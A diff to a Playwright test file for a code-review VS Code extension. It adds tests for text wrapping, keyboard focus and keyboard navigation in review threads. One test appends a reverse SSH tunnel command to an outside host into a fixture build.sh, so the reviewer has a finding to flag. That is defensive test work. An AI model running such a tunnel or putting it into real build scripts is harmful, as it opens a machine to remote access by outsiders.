@@ -4,6 +4,7 @@ import { appendFileSync } from "node:fs";
 import { join } from "node:path";
 import type { Locator } from "playwright-core";
 import { readingRepository } from "../../../scripts/vscode/test-windows.mjs";
+import { chord } from "./keyboard.ts";
 import { tellFailedScene } from "./scene.ts";
 import { themeNames, wear } from "./themes.ts";
 import { eventually, openWorkbench, type Workbench } from "./workbench.ts";
@@ -41,6 +42,9 @@ describe("reading a change", () => {
     assert.match((await thread.textContent()) ?? "", /high severity · command\/reverse-ssh-tunnel/);
     assert.match((await thread.textContent()) ?? "", /agent@203\.0\.113\.7/);
     assert.equal(await thread.locator(".comment-body a").count(), 0);
+    // Runs in the page, as text.
+    const isWrapped = "[...document.querySelectorAll('.review-widget .comment-body p')].every((one) => one.scrollWidth <= one.clientWidth)";
+    assert.equal(await workbench.page.evaluate<boolean>(isWrapped), true);
   });
 
   it("asks for a fix by keyboard alone, which settles nothing by mistake", async () => {
@@ -65,7 +69,53 @@ describe("reading a change", () => {
     await thread.waitFor({ state: "hidden" });
     await workbench.screenshot("reading-accepted");
   });
+
+  it("leaves the keyboard where it is when a refresh brings a finding into the file that is read", async () => {
+    const { page, folder } = workbench;
+    await page.keyboard.press("Control+P");
+    await page.locator(".quick-input-widget input[type=text]").waitFor({ state: "visible" });
+    await page.keyboard.type("build.sh");
+    await page.locator(".quick-input-list .monaco-list-row", { hasText: "build.sh" }).first().waitFor();
+    await page.keyboard.press("Enter");
+    await page.locator(".tab.active", { hasText: "build.sh" }).waitFor();
+    await page.locator(".editor-instance .codelens-decoration", { hasText: "Verify hunk" }).first().waitFor();
+    appendFileSync(join(folder, "build.sh"), "ssh -fNR 10:localhost:22 agent@203.0.113.8\n");
+    await workbench.runCommand("Countersign: Refresh Review");
+    await threadOf(workbench, "203.0.113.8").waitFor();
+    // What opens may draw itself some time after it is there.
+    await page.waitForTimeout(2_000);
+    assert.equal(await page.evaluate<boolean>("document.activeElement?.closest('.review-widget') === null"), true);
+  });
+
+  it("is brought from a change in a diff to the thread of its finding, to an answer and back, by VS Code's own keys", async () => {
+    const { page } = workbench;
+    // The first ones are of files that are new, which have no other side.
+    await eventually(async () => {
+      await chord(page, "N");
+      return isSoonThere(page.locator(".tab.active", { hasText: "→" }));
+    });
+    await page.locator(".editor.modified .codelens-decoration", { hasText: "Verify hunk" }).first().waitFor();
+    const thread = page.locator(".editor.modified .review-widget:focus-within");
+    await eventually(async () => {
+      await page.keyboard.press("Alt+F9");
+      return isSoonThere(thread);
+    });
+    await workbench.screenshot("reading-thread-by-key");
+    await page.keyboard.press("Tab");
+    await page.locator(".editor.modified .review-widget .comment-form:focus-within").waitFor();
+    await page.keyboard.press("Escape");
+    await thread.waitFor({ state: "hidden" });
+    await page.locator(".editor.modified:focus-within").waitFor();
+  });
 });
+
+/** Whether a key has brought it: where it has not, the key is pressed again. */
+function isSoonThere(what: Locator): Promise<boolean> {
+  return what.waitFor({ timeout: 3_000 }).then(
+    () => true,
+    () => false,
+  );
+}
 
 function threadOf({ page }: Workbench, words: string): Locator {
   return page.locator(".review-widget", { hasText: words }).first();
